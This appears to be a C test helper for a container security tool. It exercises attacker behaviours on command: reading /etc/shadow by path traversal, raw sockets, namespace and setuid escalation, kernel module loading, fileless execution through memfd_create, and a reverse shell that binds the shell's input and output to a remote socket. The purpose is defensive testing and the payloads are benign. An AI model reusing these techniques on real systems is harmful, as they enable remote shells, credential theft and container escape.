/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ct VERB ARGS...: what the scenarios with containers do in them, in few
 * system calls.  Under any other name it does nothing: the tools of an image
 * that are only run to be seen.
 */
#include "lib/base/compat.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>

static int say(const char *fmt, ...) PRINTF(1, 2);
static int say(const char *fmt, ...)
{
	char line[128];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line), fmt, ap);
	va_end(ap);
	return write(STDOUT_FILENO, line, (size_t)n) < 0;
}

static int number(const char *s)
{
	int n = 0;

	while (*s >= '0' && *s <= '9')
		n = 10 * n + *s++ - '0';
	return n;
}

static int traversal(char **a UNUSED)
{
	int got = open("/tmp/../tmp/../etc/shadow", O_RDONLY);

	return say("%d.%d\n", got, open("/tmp/../../../etc/nosuch", O_RDONLY));
}

static int packet(char **a UNUSED)
{
	return say("packet %d\n", socket(AF_PACKET, SOCK_RAW, 0));
}

static int selfexe(char **a UNUSED)
{
	int exe = open("/proc/self/exe", O_WRONLY);

	return say("%d.%d\n", exe, open("/proc/self/fd/2", O_WRONLY));
}

static int unshare_(char **a)
{
	return say("%d\n", unshare(*a && **a == '1' ? CLONE_NEWNS : CLONE_NEWUSER));
}

static int setuid_(char **a)
{
	return say("%d\n", setuid((uid_t)number(*a)));
}

static int setns_(char **a)
{
	int fd = open(*a, O_RDONLY);

	return say("%d\n", setns(fd, 0));
}

static int module(char **a UNUSED)
{
	long one = syscall(SYS_init_module, "notamodule", 10, "");
	int fd = open("/bin/busybox", O_RDONLY);

	return say("%ld %ld\n", one, syscall(SYS_finit_module, fd, "", 0));
}

static int memexec(char **a UNUSED)
{
	static char block[65536];
	char *argv[] = { block, NULL, NULL }, *envp[] = { NULL };
	int to = memfd_create("stage2", MFD_CLOEXEC), from = open("/bin/busybox", O_RDONLY);
	ssize_t n;

	while ((n = read(from, block, sizeof(block))) > 0)
		if (write(to, block, (size_t)n) != n)
			return 1;
	snprintf(block, sizeof(block), "echo");
	argv[1] = block + 100;
	snprintf(argv[1], 100, "hello-from-memfd");
	return (int)syscall(SYS_execveat, to, "", argv, envp, AT_EMPTY_PATH);
}

static struct sockaddr_in address(char **a)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons((uint16_t)number(a[1])) };

	inet_pton(AF_INET, a[0], &in.sin_addr);
	return in;
}

static int connected(char **a, int type)
{
	struct sockaddr_in in = address(a);
	int fd = socket(AF_INET, type, 0);
	int r = connect(fd, (struct sockaddr *)&in, sizeof(in));

	fprintf(stderr, "connect %s:%s = %d %s\n", a[0], a[1], r, r ? strerror(errno) : "");
	return fd;
}

/* IP PORT [t|u] [nb] */
static int dial(char **a)
{
	int type = a[2] && *a[2] == 'u' ? SOCK_DGRAM : SOCK_STREAM, fd;
	char answer[64];

	fd = connected(a, type | (a[2] && a[3] ? SOCK_NONBLOCK : 0));
	return write(fd, "ping\n", 5) == 5 && type == SOCK_STREAM && read(fd, answer, 64) < 0;
}

static int revsh(char **a)
{
	char *argv[] = { (char[]){ "sh" }, (char[]){ "-c" }, (char[]){ "echo from-container; id -u" }, NULL };
	int fd = connected(a, SOCK_STREAM), i;

	for (i = 0; i < 3; i++)
		dup2(fd, i);
	return execv("/bin/sh", argv);
}

/* IP PORT [TIMES] */
static int listen_(char **a)
{
	struct sockaddr_in in = address(a);
	int l = socket(AF_INET, SOCK_STREAM, 0), one = 1, times = a[2] ? number(a[2]) : 1, fd;
	char text[64];

	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(l, (struct sockaddr *)&in, sizeof(in)) || listen(l, 5))
		return 1;
	alarm(20);
	while (times--) {
		fd = accept(l, NULL, NULL);
		if (read(fd, text, sizeof(text)) < 0 || write(fd, "ok\n", 3) < 0)
			return 1;
		close(fd);
	}
	return 0;
}

static int sleep_(char **a)
{
	return (int)sleep((unsigned)number(*a));
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(char **args);
	} verbs[] = {
		{ "traversal", traversal }, { "packet", packet }, { "selfexe", selfexe },
		{ "unshare", unshare_ }, { "setuid", setuid_ }, { "setns", setns_ },
		{ "module", module }, { "memexec", memexec }, { "dial", dial },
		{ "revsh", revsh }, { "listen", listen_ }, { "sleep", sleep_ },
	};
	size_t i;

	for (i = 0; argc > 1 && i < ARRAY_SIZE(verbs); i++)
		if (!strcmp(argv[1], verbs[i].name))
			return verbs[i].run(argv + 2);
	return 0;
}
